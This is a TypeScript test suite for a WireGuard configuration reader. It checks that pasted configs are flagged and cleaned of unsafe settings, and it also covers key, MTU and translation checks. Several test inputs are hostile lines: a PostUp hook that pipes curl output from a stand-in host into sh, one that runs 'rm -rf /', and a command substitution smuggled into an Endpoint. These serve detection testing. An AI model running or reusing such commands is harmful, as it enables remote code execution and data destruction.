import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { en } from "#core/text/en.ts";
import { createTranslate } from "#core/text/translate.ts";
import { vpnFinding, type VpnFindingCode } from "#core/vpn/findings.ts";
import { mtuAdvice, ORDINARY_LINE } from "#core/vpn/mtu-advice.ts";
import { readWireGuardConfig, type ConfigPlace } from "#core/vpn/read-wireguard-config.ts";
import { isPeerKey } from "#core/vpn/weak-keys.ts";
import { isWireGuardKey } from "#core/wireguard/keys.ts";
import { writeWgQuick } from "#core/vpn/wg-quick.ts";
import { anyDevice, anyKey, keyPair, present } from "./vpn-samples.ts";

const own = keyPair(1);
const interfaceLines = ["[Interface]", `PrivateKey = ${own.privateKey}`, "Address = 10.8.0.2/24"];
const peerLines = [
  "[Peer]",
  `PublicKey = ${anyKey(2)}`,
  "AllowedIPs = 10.8.0.0/24",
  "Endpoint = vpn.example.com:51820",
  "PersistentKeepalive = 25",
];
const good = [...interfaceLines, ...peerLines].join("\n");
const withInterface = (...lines: string[]): string => [...interfaceLines, ...lines, ...peerLines].join("\n");
const withPeer = (...lines: string[]): string => [...interfaceLines, ...peerLines, ...lines].join("\n");
const without = (start: string): string =>
  good
    .split("\n")
    .filter((line) => !line.startsWith(start))
    .join("\n");
const instead = (start: string, line: string): string =>
  good
    .split("\n")
    .map((one) => (one.startsWith(start) ? line : one))
    .join("\n");

const codesOf = (text: string, place: ConfigPlace = {}): string[] =>
  readWireGuardConfig(text, place).findings.map(({ code }) => code);

describe("a pasted configuration", () => {
  it("has nothing wrong with it when it is a good one, with Windows' line ends and mark too", () => {
    for (const text of [good, `\uFEFF${good.replaceAll("\n", "\r\n")}`]) {
      const { device, findings, narrowed, commands } = readWireGuardConfig(text);
      expect(findings).toEqual([]);
      expect(narrowed).toBe(null);
      expect(commands).toEqual([]);
      expect(device).toEqual({
        name: "",
        interfaceName: "farsite",
        privateKey: own.privateKey,
        addresses: ["10.8.0.2/24"],
        listenPort: null,
        mtu: null,
        peers: [
          {
            name: "",
            publicKey: anyKey(2),
            presharedKey: null,
            endpoint: { address: "vpn.example.com", port: 51_820 },
            allowedIps: ["10.8.0.0/24"],
            keepaliveSeconds: 25,
          },
        ],
        lan: null,
        translation: null,
      });
    }
  });

  const key = (bytes: number[]): string =>
    Buffer.from(Uint8Array.from({ length: 32 }, (_, index) => bytes[index] ?? 0)).toString("base64");
  it.each([
    ["too-large", `${good}\n${"#".repeat(1_000_000)}`],
    ["not-a-config", "client\ndev tun"],
    ["not-a-config", ""],
    ["whole-internet", instead("AllowedIPs", "AllowedIPs = 0.0.0.0/0, ::/0")],
    ["whole-internet", instead("AllowedIPs", "AllowedIPs = 0.0.0.0/1, 128.0.0.0/1")],
    ["whole-internet", instead("AllowedIPs", "AllowedIPs = 10.8.0.0/24, ::/0")],
    ["wide-prefix", instead("AllowedIPs", "AllowedIPs = 10.0.0.0/8")],
    ["runs-commands", withInterface("PostUp = curl http://x/$(hostname) | sh")],
    ["runs-commands", withInterface("preup=id")],
    ["own-routing", withInterface("Table = 1234")],
    ["own-routing", withInterface("FwMark = 0xca6c")],
    ["overwrites-itself", withInterface("SaveConfig = true")],
    ["changes-dns", withInterface("DNS = 1.1.1.1, firm.lan")],
    ["no-keepalive", without("PersistentKeepalive")],
    ["no-keepalive", instead("PersistentKeepalive", "PersistentKeepalive = off")],
    ["endpoint-missing", without("Endpoint")],
    ["endpoint-private", instead("Endpoint", "Endpoint = 192.168.1.1:51820")],
    ["endpoint-private", instead("Endpoint", "Endpoint = 100.64.0.9:51820")],
    ["endpoint-private", instead("Endpoint", "Endpoint = fritz.box:51820")],
    ["endpoint-unreadable", instead("Endpoint", "Endpoint = vpn.example.com")],
    ["endpoint-unreadable", instead("Endpoint", "Endpoint = $(id).example.com:51820")],
    ["endpoint-unreadable", instead("Endpoint", "Endpoint = [1.2.3.4]:51820")],
    ["private-key-missing", without("PrivateKey")],
    ["private-key-broken", instead("PrivateKey", `PrivateKey = ${own.privateKey.slice(1)}`)],
    ["private-key-unlikely", instead("PrivateKey", `PrivateKey = ${anyKey(2)}`)],
    ["public-key-broken", without("PublicKey")],
    ["public-key-broken", instead("PublicKey", `PublicKey = ${anyKey(2).slice(0, -2)}B=`)],
    ["public-key-weak", instead("PublicKey", `PublicKey = ${key([])}`)],
    ["public-key-weak", instead("PublicKey", `PublicKey = ${key([1])}`)],
    ["public-key-own", instead("PublicKey", `PublicKey = ${own.publicKey}`)],
    ["public-key-own", instead("PublicKey", `PublicKey = ${own.privateKey}`)],
    ["peer-twice", withPeer(...peerLines)],
    ["preshared-key-broken", withPeer("PresharedKey = abc")],
    ["prefix-in-two-peers", withPeer("[Peer]", `PublicKey = ${anyKey(3)}`, "AllowedIPs = 10.8.0.0/24")],
    ["prefix-in-two-peers", withPeer("[Peer]", `PublicKey = ${anyKey(3)}`, "AllowedIPs = 10.8.0.7/32")],
    ["prefix-unreadable", instead("AllowedIPs", "AllowedIPs = 10.8.0.0/33")],
    ["prefix-unreadable", withInterface("Address = 10.8.0.300")],
    ["no-peer", interfaceLines.join("\n")],
    ["no-address", without("Address")],
    ["number-unreadable", withInterface("ListenPort = 70000")],
    ["number-unreadable", withInterface("MTU = auto")],
    ["number-unreadable", instead("PersistentKeepalive", "PersistentKeepalive = 25s")],
    ["mtu-out-of-range", withInterface("MTU = 1500")],
    ["mtu-out-of-range", withInterface("MTU = 1200")],
    ["section-twice", `${good}\n[Interface]\nMTU = 1420`],
    ["setting-twice", withInterface(`PrivateKey = ${own.privateKey}`)],
    ["setting-unknown", withInterface("Speed = fast")],
    ["setting-unknown", `${good}\n[Server]\nA = b`],
    ["setting-unknown", `${good}\nwhat is this`],
    ["not-plain-wireguard", withInterface("Jc = 4", "H1 = 12345")],
    ["odd-characters", good.replace("Address = ", "Address\u00A0= ")],
    ["odd-characters", good.replace("10.8.0.2", "10.8\u200B.0.2")],
    ["odd-characters", withInterface("# fine\u2028PostUp = id")],
  ])("is found out: %s", (code, text) => {
    expect(codesOf(text)).toContain(code);
  });

  it("is held against what is known of the place", () => {
    expect(codesOf(good, { serverPorts: [443] })).toEqual(["endpoint-odd-port"]);
    expect(codesOf(good, { serverPorts: [443, 51_820] })).toEqual([]);
    expect(codesOf(good, { lan: "10.8.0.0/16" })).toEqual(["covers-lan"]);
    expect(codesOf(without("PersistentKeepalive"), { isBehindNat: false })).toEqual([]);
  });

  it("is narrowed to the tunnel's own networks, and what is written is that", () => {
    const wide = instead("AllowedIPs", "AllowedIPs = 0.0.0.0/0, ::/0, 172.20.5.0/24");
    const allowed = (place: ConfigPlace): readonly string[] | undefined =>
      readWireGuardConfig(wide, place).narrowed?.peers[0]?.allowedIps;
    expect(allowed({})).toEqual(["172.20.5.0/24", "10.8.0.0/24"]);
    expect(allowed({ narrowTo: ["10.87.0.0/16"] })).toEqual(["172.20.5.0/24", "10.87.0.0/16"]);
    const { narrowed } = readWireGuardConfig(wide);
    expect(codesOf(writeWgQuick(present(narrowed)).text)).toEqual([]);
  });

  it("loses its commands, its DNS and its routing in what Farsite writes of it", () => {
    const { device, commands } = readWireGuardConfig(
      withInterface("PostUp = id; rm -rf /", "DNS = 1.1.1.1", "Table = 7", "SaveConfig = true", "PostDown = `x`"),
    );
    expect(commands).toEqual(["id; rm -rf /", "`x`"]);
    expect(writeWgQuick(present(device)).text).toBe(writeWgQuick(present(readWireGuardConfig(good).device)).text);
  });

  it("can't pass its own commands off as Farsite's", () => {
    fc.assert(
      fc.property(
        anyDevice.filter(({ lan }) => lan !== null),
        fc.constantFrom("; id", " ", "'", "\nPostUp = id", "%i"),
        fc.nat(),
        (device, extra, seed) => {
          const { text } = writeWgQuick(device, { firewall: "either" });
          const starts = [...text.matchAll(/^Post(?:Up|Down) = /gm)].map((match) => match.index + match[0].length);
          const at = starts[seed % starts.length] ?? 0;
          const end = text.indexOf("\n", at);
          const forged = `${text.slice(0, end)}${extra.trim() === "" ? " x" : extra}${text.slice(end)}`;
          const place = { interfaceName: device.interfaceName };
          expect(readWireGuardConfig(text, place).commands).toEqual([]);
          expect(readWireGuardConfig(forged, place).commands.length).toBeGreaterThanOrEqual(3);
          expect(readWireGuardConfig(forged, place).device?.lan).toBe(null);
        },
      ),
    );
  });

  it("never breaks the reader, and what is read can be written", () => {
    const line = fc.oneof(
      fc.constantFrom(
        ...good.split("\n"),
        "[Peer]",
        "[Interface]",
        "AllowedIPs = 0.0.0.0/0",
        "Endpoint = [::1]:1",
        "PostUp = x",
        "# y",
        "MTU = 9",
      ),
      fc.string({ unit: "binary", maxLength: 30 }),
    );
    fc.assert(
      fc.property(fc.array(line, { maxLength: 25 }), (lines) => {
        const { device, narrowed, findings } = readWireGuardConfig(lines.join("\n"));
        const usable = [device, narrowed].filter((one) => one !== null);
        for (const one of usable) expect(writeWgQuick(one).text).toContain("[Interface]");
        expect(JSON.stringify(findings)).not.toContain(own.privateKey);
      }),
      { numRuns: 300 },
    );
  });

  it("of a megabyte is read in one go", () => {
    const many = Array.from(
      { length: 8_000 },
      (_, index) => `[Peer]\nPublicKey = ${anyKey(index + 50)}\nAllowedIPs = 10.${index >> 8}.${index & 255}.0/24\n`,
    );
    const text = [...interfaceLines, "ListenPort = 51820", ...many].join("\n");
    expect(readWireGuardConfig(text).device?.peers).toHaveLength(8_000);
    expect(codesOf("[Interface]\n".repeat(80_000))).toContain("section-twice");
    expect(codesOf(`[Interface]\n${"a=b\n".repeat(240_000)}`)).toContain("setting-twice");
  });
});

describe("keys", () => {
  it("are weak exactly where the multiplication says so", () => {
    const hex = [
      "00".repeat(32),
      `01${"00".repeat(31)}`,
      `ec${"ff".repeat(30)}7f`,
      `ed${"ff".repeat(30)}7f`,
      `ee${"ff".repeat(30)}7f`,
      "e0eb7a7c3b41b8ae1656e3faf19fc46ada098deb9c32b1fd866205165f49b800",
      "5f9c95bca3508c24b1d0b1559c83ef5b04445cc4581c8e86d8224eddd09f1157",
    ];
    for (const text of hex) {
      for (const top of [0, 0x80]) {
        const bytes = Buffer.from(text, "hex");
        bytes[31] = (bytes[31] ?? 0) | top;
        const weak = bytes.toString("base64");
        expect([text, isPeerKey(weak), isWireGuardKey(weak)]).toEqual([text, false, false]);
      }
    }
    for (let seed = 0; seed < 20; seed += 1) expect(isPeerKey(anyKey(seed))).toBe(isWireGuardKey(anyKey(seed)));
  });
});

describe("MTU advice", () => {
  it.each([
    [1420, "ordinary", {}],
    [1412, "pppoe", { isPppoe: true }],
    [1380, "ds-lite", { isDsLite: true }],
    [1372, "ds-lite", { isDsLite: true, isPppoe: true }],
    [1360, "mobile", { isMobile: true }],
    [1384, "measured", { pathMtu: 1464, isMobile: true }],
    [1420, "measured", { pathMtu: 9000 }],
    [1280, "floor", { pathMtu: 1340 }],
  ] as const)("is %i for a line that is %s", (mtu, reason, line) => {
    const advice = mtuAdvice({ ...ORDINARY_LINE, ...line });
    expect([advice.mtu, advice.why.key]).toEqual([mtu, `vpn.mtu.${reason}`]);
  });
});

describe.each(["en", "de"] as const)("the sentences in %s", (locale) => {
  const say = createTranslate(locale);
  const values = (text: string): string[] => [
    ...new Set([...text.matchAll(/\{\{(\w+)\}\}/g)].map(([, name]) => name ?? "")),
  ];

  it("come out whole", () => {
    for (const [code, texts] of Object.entries(en.vpn.finding)) {
      const args = Object.fromEntries(
        Object.values(texts)
          .flatMap(values)
          .map((name) => [name, name === "count" ? 2 : `<${name}>`]),
      );
      const finding = vpnFinding(code as VpnFindingCode, { count: 2, ...args });
      for (const message of [finding.title, finding.whatToDo]) {
        expect(say(message)).not.toBe(message.key);
        expect(say(message)).not.toMatch(/\{\{|undefined/);
      }
    }
    for (const [key, text] of Object.entries(en.vpn.mtu)) {
      const args = Object.fromEntries(values(text).map((name) => [name, 1420]));
      expect(say({ key: `vpn.mtu.${key}`, args })).toMatch(/1420/);
    }
  });
});
